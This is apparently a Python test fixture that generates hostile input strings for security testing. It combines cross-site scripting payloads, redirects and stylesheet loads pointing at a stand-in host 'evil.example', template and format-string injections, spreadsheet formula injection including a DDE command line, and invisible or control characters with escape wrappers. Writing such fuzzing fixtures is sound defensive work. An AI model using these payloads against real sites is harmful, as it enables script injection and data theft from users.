"""What a hostile stranger may write: over five hundred strings that try to be script, markup, formula or direction.

Out: strings, each made of a payload and of what it hides in. All are our own, after the ways pages are attacked in.
"""

from __future__ import annotations

PAYLOADS = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<a href=javascript:pwned()>press</a>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<input autofocus onfocus=pwned()>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>press</button></form>",
    "<math><mi xlink:href=javascript:pwned()>x</mi></math>",
    "<template><script>pwned()</script></template>",
    "<object data=javascript:pwned()></object>",
    "<div hx-get=//evil.example/ hx-trigger=load></div>",
    "<div hx-on:load=pwned()></div>",
    "javascript:pwned()",
    "{{ 7*7 }}{% raw %}",
    "${pwned()}",
    "%(count)s %s %n",
    '=HYPERLINK("http://evil.example/","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\u202epwned\u202c",
    "\u2066\u2067x\u2069",
    "\x1b[31mred\x1b]0;title\x07",
    "\x00\x01\x02",
    "\ud800",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;",
)
WRAPPERS = (
    "{}",
    '"{}',
    "'{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</script>{}",
    "--><!--{}",
    "]]>{}",
    "</title>{}",
    "`{}`",
    '\\"{}',
    "</p></blockquote></article>{}",
    "\n\t{}\r\n",
    "\ufeff{}\u200b",
)


def strings() -> list[str]:
    return [wrapper.replace("{}", payload) for wrapper in WRAPPERS for payload in PAYLOADS]
